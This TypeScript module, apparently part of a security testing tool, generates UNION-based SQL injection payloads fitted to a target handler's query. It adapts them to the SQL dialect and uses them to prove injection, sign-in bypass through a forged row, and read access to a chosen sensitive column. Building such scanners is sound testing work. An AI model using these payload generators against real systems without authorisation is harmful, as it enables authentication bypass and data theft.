// The UNION payloads of a SQL injection test: each adds a row of the test's own to the query's
// answer, so the proof does not depend on what the tables hold. A value that matches nothing and a
// condition every row meets show the injection only when the table has rows; a row made by the
// injected SELECT comes back (or signs someone in) on an empty table too. The row carries a marker
// the database computes (`UPPER('rugged-…')`), so an app that echoes the request back never shows it;
// a second payload appends a count over the column the story names, which is one row even when that
// table is empty, to show the column is reachable through this hole.
//
// The payloads keep the SQL around them valid without a `-- ` comment: the first SELECT is emptied
// (`AND 1=0`) and keeps the GROUP BY the code appends, and the injected SELECT reads from a one-row
// derived table that has every column the code's text after the WHERE names, so the conditions and
// the GROUP BY the code appends after the value still parse. PostgreSQL refuses a text literal in a
// UNION column of another type: the marker goes into the column most likely to hold text, NULLs
// elsewhere, and the next shape is tried when the database answers an error.
import type { AttackTarget } from './attackPlan';
import { mostValuable } from './groundSql';
import { dialectOfCode, type SqlDialect } from './sqlDialect';
import { rowsReturned } from './sqlQueryShape';
import { splitTopLevel } from './sqlSchema';

/** What the test sends for one field: an optional row of NULLs, then the marker in each column in turn. */
export interface FieldUnion {
  /**
   * For `SELECT *` from one table: a UNION of that table's columns joined to no row, so the count and
   * the types fit whatever they are; the answer shows one record whose every field is null.
   */
  nullRow?: string;
  /** The select list's names, in order, when the code shows them (else learned from the null row). */
  columns?: string[];
  /** The payload with `{ROW}` where the injected SELECT's values go. */
  template: string;
}

export interface UnionProof {
  /** What `markerSql` answers: the text the test looks for. */
  marker: string;
  markerSql: string;
  /** The query decides a sign-in: a made-up row signs in, whatever the answer shows. */
  signIn: boolean;
  /** `table.column` the story names, and the expressions (one per way the dialect may join text) that count it after the marker. */
  namedColumn?: string;
  counted: string[];
  /** The payloads for a value pasted into a slot of this kind (`string`, `value`, `list`). */
  unionFor(slot: string): FieldUnion;
}

const KEYWORDS = new Set(
  'and or not null is in like ilike between select from where as on join inner left right outer cross union all distinct limit offset order by group having set values case when then else end exists true false asc desc collate escape interval user table to into current_date current_time current_timestamp nulls first last returning rownum top fetch next rows only for update with'.split(
    ' ',
  ),
);

/** The UNION proof for the query of a SELECT handler, or undefined when the answer can never show it. */
export function unionProof(target: AttackTarget): UnionProof | undefined {
  const handler = target.regionText ?? '';
  const query = queryText(handler);
  if (!query) return undefined;
  const signIn = /\bWHERE\b[\s\S]*\b(?:pass(?:word|wd)?|pwd|password_?hash|passhash)\s*=/i.test(query.text);
  // A handler that answers only yes or no never shows the marker; a sign-in shows it in its status.
  if (!signIn && rowsReturned(handler) === false) return undefined;
  const columns = selectNames(query.select);
  const table = starTable(query.select);
  if (!columns && !table) return undefined;
  const dialect = dialectOfCode(target.fileText ?? '') ?? dialectOfLibraries(target.libraries);
  const marker = `rugged-${target.key.toLowerCase()}`;
  const named = signIn ? undefined : mostValuable(target.sqlTables ?? [], query.handle, dialect);
  return {
    marker: marker.toUpperCase(),
    markerSql: `UPPER('${marker}')`,
    signIn,
    ...(named ? { namedColumn: `${named.table}.${named.column}` } : {}),
    counted: named ? joins(dialect, `UPPER('${marker}=')`, `(SELECT COUNT(${named.column}) FROM ${named.table})`) : [],
    unionFor: (slot) => ({
      ...(table && !query.groupBy ? { nullRow: injected(query, `${table}.*`, `(SELECT 1 AS rugged_one) AS rugged_t LEFT JOIN ${table} ON 1=0`, slot) } : {}),
      ...(columns ? { columns } : {}),
      template: injected(query, '{ROW}', `(SELECT ${derivedColumns(query)}) AS rugged_t`, slot),
    }),
  };
}

function derivedColumns(query: QueryText): string {
  return query.rest.length > 0 ? query.rest.map((name) => `NULL AS ${name}`).join(', ') : '1 AS rugged_one';
}

/** The text pasted in a slot: the first SELECT emptied, then a UNION that selects `select` from `from`. */
function injected(query: QueryText, select: string, from: string, slot: string): string {
  const union = ` AND 1=0${query.groupBy ? ` GROUP BY ${query.groupBy}` : ''} UNION ALL SELECT ${select} FROM ${from} WHERE `;
  // Each ending leaves the text the code appends valid: its closing quote, its closing bracket, or nothing.
  if (slot === 'string') return `29991231'${union}1=1 OR 'a'<'b`;
  if (slot === 'list') return `0)${union}(1=1 OR 1=1`;
  return `0${union}1=1 OR 1=1`;
}

/** The table of `SELECT * FROM t` (no join), whose columns a UNION can take whole. */
function starTable(select: string | undefined): string | undefined {
  const star = /^\s*(?:\w+\.)?\*\s+from\s+([A-Za-z_]\w*)(?:\s+(?!where\b|order\b|group\b|limit\b)(?:as\s+)?([A-Za-z_]\w*))?([\s\S]*)$/i.exec(select ?? '');
  if (!star || /\bjoin\b|,/.test(star[3].split(/\bwhere\b/i)[0])) return undefined;
  return star[1];
}

/** The names (or aliases) of an explicit select list. */
function selectNames(select: string | undefined): string[] | undefined {
  const list = /^\s*(?:distinct\s+)?([\s\S]*?)\s+from\b/i.exec(select ?? '')?.[1];
  if (!list || /\*/.test(list)) return undefined;
  return splitTopLevel(list).map((item) => {
    const alias = /\s(?:as\s+)?[`"[]?(\w+)[`"\]]?\s*$/i.exec(item.trim());
    if (alias && /[\s)]/.test(item.trim())) return alias[1];
    return /(\w+)[`"\]]?\s*$/.exec(item)?.[1] ?? '';
  });
}

/** Text and a number joined, the ways the dialect knows (MySQL's `||` is OR); both when it is unknown. */
function joins(dialect: SqlDialect | undefined, text: string, count: string): string[] {
  const pipes = `${text} || ${count}`;
  const concat = `CONCAT(${text}, ${count})`;
  if (dialect === 'mysql') return [concat];
  if (dialect === 'mssql') return [`${text} + CAST(${count} AS varchar(20))`];
  if (dialect) return [pipes];
  return [pipes, concat];
}

/** The driver among the project's libraries, when it installs one kind only (an ORM's database). */
function dialectOfLibraries(libraries: Readonly<Record<string, string>> | undefined): SqlDialect | undefined {
  const names = Object.keys(libraries ?? {});
  const kinds = new Set<SqlDialect>();
  for (const name of names) {
    if (/^(?:pg|pg-promise|postgres)$/.test(name)) kinds.add('postgres');
    else if (/^(?:mysql2?|mariadb)$/.test(name)) kinds.add('mysql');
    else if (/^(?:sqlite3|better-sqlite3|sqlite)$/.test(name)) kinds.add('sqlite');
    else if (/^(?:tedious|mssql)$/.test(name)) kinds.add('mssql');
  }
  return kinds.size === 1 ? [...kinds][0] : undefined;
}

interface QueryText {
  /** The SQL as written, the request's values replaced by `?`. */
  text: string;
  /** What follows SELECT in the first literal (select list and FROM). */
  select?: string;
  /** Columns named after the WHERE, for the derived table. */
  rest: string[];
  /** The GROUP BY list the code appends, for the emptied first SELECT. */
  groupBy?: string;
  /** The receiver the query is sent through (`pool`), to know which tables it reaches. */
  handle?: string;
}

/**
 * The SELECT of the handler: its string pieces from the first one that starts a SELECT to the end of
 * the call that sends it, joined where the code pastes values.
 */
function queryText(handler: string): QueryText | undefined {
  const literals = [...handler.matchAll(/(['"`])((?:\\[\s\S]|(?!\1)[^\\])*)\1/g)].map((m) => ({ text: m[2].replace(/\$\{[^}]*\}/g, ' ? '), at: m.index }));
  const first = literals.findIndex((l) => /^\s*(?:\(\s*)*select\b/i.test(l.text));
  if (first < 0) return undefined;
  const calls = [...handler.matchAll(/([A-Za-z_$][\w$]*)\s*\.\s*(?:query|all|get|each|execute|run|prepare|raw)\s*\(/g)];
  const call = calls.map((c) => ({ handle: c[1], end: closing(handler, c.index + c[0].length) })).find((c) => c.end > literals[first].at);
  const end = call?.end ?? handler.length;
  const pieces = literals.filter((l, i) => i >= first && l.at < end).map((l) => l.text);
  const text = pieces.join(' ? ');
  const afterWhere = /\bWHERE\b([\s\S]*)$/i.exec(text.replace(/'(?:[^']|'')*'/g, ' '))?.[1] ?? '';
  const seen = new Set<string>();
  // Names compared without case: a derived table with the same column twice is an error in MySQL.
  const rest = [...afterWhere.matchAll(/(?<![\w.$'"`])([A-Za-z_]\w*)(?![\w.]|\s*\()/g)]
    .map((m) => m[1])
    .filter((name) => !KEYWORDS.has(name.toLowerCase()) && !seen.has(name.toLowerCase()) && Boolean(seen.add(name.toLowerCase())));
  const groupBy = /\bGROUP\s+BY\s+((?:[A-Za-z_][\w.]*\s*,\s*)*[A-Za-z_][\w.]*)/i.exec(afterWhere)?.[1];
  const select = /^\s*(?:\(\s*)*select\b([\s\S]*)$/i.exec(pieces[0])?.[1];
  return { text, rest, ...(select ? { select } : {}), ...(groupBy ? { groupBy } : {}), ...(call ? { handle: call.handle } : {}) };
}

/** The offset just past the bracket that closes the one opened before `start`. */
function closing(text: string, start: number): number {
  let depth = 1;
  for (let i = start; i < text.length; i++) {
    if (text[i] === '(') depth++;
    else if (text[i] === ')' && --depth === 0) return i + 1;
  }
  return text.length;
}
